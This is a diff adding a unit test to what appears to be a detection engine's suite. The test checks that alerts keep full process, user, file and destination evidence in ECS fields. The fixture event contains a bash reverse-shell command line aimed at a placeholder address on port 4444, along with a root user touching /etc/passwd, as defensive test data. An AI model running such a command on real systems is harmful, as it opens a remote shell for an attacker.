@@ -294,3 +294,25 @@ def test_events_without_a_key_are_not_lumped_together() -> None:
     engine, _ = make(threshold_rule())
     assert engine.process([ev("auth", i, event__outcome="failure") for i in range(10)]) == []
     assert engine.rules[0].state_size() == 0
+
+
+def test_alerts_carry_the_evidence_in_ecs_fields() -> None:
+    """Issue 15 finding: alerts copied addresses and user.name only, no executable,
+    command line, pid, parent, group or file path."""
+    from collector.detect.alerts import build_alert
+    from collector.detect.model import Match, RuleMeta
+
+    src = {"event": {"id": "e1", "dataset": "process"}, "host": {"hostname": "web-01"},
+           "process": {"pid": 4242, "executable": "/usr/bin/bash", "name": "bash",
+                       "command_line": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+                       "parent": {"pid": 1, "executable": "/usr/sbin/sshd",
+                                  "command_line": "sshd: root@pts/0"}},
+           "user": {"name": "root", "id": "0"}, "group": {"name": "sudo"},
+           "file": {"path": "/etc/passwd"}, "destination": {"ip": "203.0.113.5", "port": 4444}}
+    meta = RuleMeta(id="r", title="t", level="high")
+    alert = build_alert(Match(meta, ("web-01",), ("host.hostname",), src, ["e1"], 1, 0.0, 0.0))
+    assert alert["process"] == {k: v for k, v in src["process"].items()}
+    assert alert["user"] == {"name": "root", "id": "0"} and alert["group"] == {"name": "sudo"}
+    assert alert["file"] == {"path": "/etc/passwd"}
+    assert alert["destination"] == {"ip": "203.0.113.5", "port": 4444}
+    assert "process.parent.executable" not in alert["process"]  # nested, never a dotted key
